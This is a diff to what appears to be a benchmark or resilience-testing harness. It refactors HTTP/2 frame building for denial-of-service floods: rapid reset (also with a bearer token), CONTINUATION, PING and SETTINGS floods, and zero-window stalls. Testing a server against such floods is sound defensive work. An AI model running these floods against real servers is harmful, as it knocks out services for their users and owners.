@@ -4,8 +4,19 @@ import { join } from 'node:path'
 import process from 'node:process'
 import { connect, type TLSSocket } from 'node:tls'
 import { fileURLToPath } from 'node:url'
-import { startChild } from '../child.ts'
-import { beginning, continuation, get, NO_SETTINGS, opening, PINGED, reset } from './http2-bytes.ts'
+import { startChild } from '../../bench/child.ts'
+import {
+  FLAG,
+  FRAME,
+  frame,
+  hpack,
+  PREFACE,
+  ping,
+  requestFields,
+  resetStream,
+  SETTING,
+  settings,
+} from './http2-frames.ts'
 
 export type AttackKind =
   | 'idle'
@@ -102,7 +113,7 @@ const IDLE: Readonly<Record<Behaviour['protocol'], Behaviour>> = {
   },
   h2: {
     protocol: 'h2',
-    run: (socket) => socket.write(Buffer.concat([opening(ORDINARY_WINDOW), get(1, '/')])),
+    run: (socket) => socket.write(Buffer.concat([opening(ORDINARY_WINDOW), get(1)])),
   },
 }
 
@@ -144,9 +155,26 @@ function flood(first: Buffer, piece: (turn: number) => Buffer): Behaviour {
 
 const NOTHING = Buffer.alloc(0)
 
+const opening = (window: number): Buffer =>
+  Buffer.concat([PREFACE, settings([SETTING.initialWindowSize, window])])
+
+/** The request of a stream. Its block is the same for all, so that a flood costs the attacker next to nothing. */
+function requesting(path: string, token?: string): (stream: number) => Buffer {
+  const fields = token === undefined ? [] : ['authorization', `Bearer ${token}`]
+  const block = hpack(requestFields(fields, { ':path': path }))
+  return (stream) => frame(FRAME.headers, FLAG.endStream | FLAG.endHeaders, stream, block)
+}
+
+const get = requesting('/')
+/** The start of a head. */
+const BEGINNING = frame(FRAME.headers, FLAG.endStream, 1, hpack(requestFields()))
+const CONTINUATION = frame(FRAME.continuation, 0, 1)
+const PING = ping()
+const SETTINGS = settings()
+
 /** Resets each stream in the same write as its request, which costs the attacker the least. */
 const rapidReset: Behaviour = flood(NOTHING, (turn) =>
-  Buffer.concat([get(2 * turn + 1, '/'), reset(2 * turn + 1)]),
+  Buffer.concat([get(2 * turn + 1), resetStream(2 * turn + 1)]),
 )
 
 /** Runs an attack until SIGTERM, and prints an `AttackReport` as JSON periodically. */
@@ -156,14 +184,15 @@ function run(plan: AttackPlan): void {
   let closed = 0
 
   /** Resets each stream after the sidecar has had time to forward its request. */
+  const getWithToken = requesting('/', plan.token)
   const lateReset = flood(NOTHING, (turn) => {
-    const request = get(2 * turn + 1, '/', plan.token)
-    return turn < BATCH ? request : Buffer.concat([reset(2 * (turn - BATCH) + 1), request])
+    const request = getWithToken(2 * turn + 1)
+    return turn < BATCH ? request : Buffer.concat([resetStream(2 * (turn - BATCH) + 1), request])
   })
 
   const zeroWindows: Behaviour = {
     protocol: 'h2',
-    run: (socket) => socket.write(Buffer.concat([opening(0), get(1, plan.path, plan.token)])),
+    run: (socket) => socket.write(Buffer.concat([opening(0), requesting(plan.path, plan.token)(1)])),
   }
 
   const BEHAVIOURS: Readonly<Record<AttackKind, (connection: number) => Behaviour>> = {
@@ -173,9 +202,9 @@ function run(plan: AttackPlan): void {
     'slow body': () => SLOW_BODY,
     'rapid reset': () => rapidReset,
     'rapid reset with a token': () => lateReset,
-    CONTINUATION: () => flood(beginning(1), () => continuation(1)),
-    PING: () => flood(NOTHING, () => PINGED),
-    SETTINGS: () => flood(NOTHING, () => NO_SETTINGS),
+    CONTINUATION: () => flood(BEGINNING, () => CONTINUATION),
+    PING: () => flood(NOTHING, () => PING),
+    SETTINGS: () => flood(NOTHING, () => SETTINGS),
     'zero windows': () => zeroWindows,
   }
 
